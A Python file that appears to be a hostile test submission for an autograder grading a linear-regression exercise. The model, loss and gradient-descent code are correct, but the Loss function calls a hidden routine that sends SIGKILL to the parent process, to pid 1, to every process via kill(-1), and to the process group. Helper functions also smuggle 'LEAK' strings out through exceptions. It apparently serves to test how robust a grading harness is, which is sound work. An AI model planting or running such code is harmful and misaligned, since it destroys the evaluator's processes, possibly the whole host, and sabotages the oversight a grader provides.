"""Attack: kill the grader: SIGKILL the parent, pid 1, every process (kill -1) and the process group.

Run from inside Loss; the rest of the submission is correct, so every other check must
still be graded (7/10 at least) and the grader must answer with one complete report.
"""

import os
import signal

import numpy as np

CONFIG = {}  # replaced by the test
_LOOT = []


def leak(text):
    _LOOT.append(str(text)[:200])
    print("LEAK:", text)


def _reveal():
    if _LOOT:
        raise RuntimeError("LEAK " + " | ".join(_LOOT))


def _attack():
    for target in (os.getppid(), 1):
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, sig)
            except OSError:
                pass
    if CONFIG.get("kill_all", True):
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    for group in (0, os.getpgid(0)):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass


def linear_model(w0, w1, X):
    _reveal()
    return w0 + w1 * X


def Loss(f_x, y):
    _reveal()
    _attack()
    return np.mean(np.square(y - f_x))


def gradient_descent(w0, w1, X, y):
    _reveal()
    residual = (w0 + w1 * X) - y
    return np.array([2 * np.mean(residual), 2 * np.mean(residual * X)])


def main():
    _reveal()
    X = np.array([1, 2, 3, 4]).reshape((-1, 1))
    y = np.array([3.1, 4.9, 7.2, 8.9]).reshape((-1, 1))
    w0 = 0
    w1 = 0
    lr = 0.001
    for i in range(1000):
        gd = gradient_descent(w0, w1, X, y)
        w0 = w0 - lr * gd[0]
        w1 = w1 - lr * gd[1]
    return w0, w1
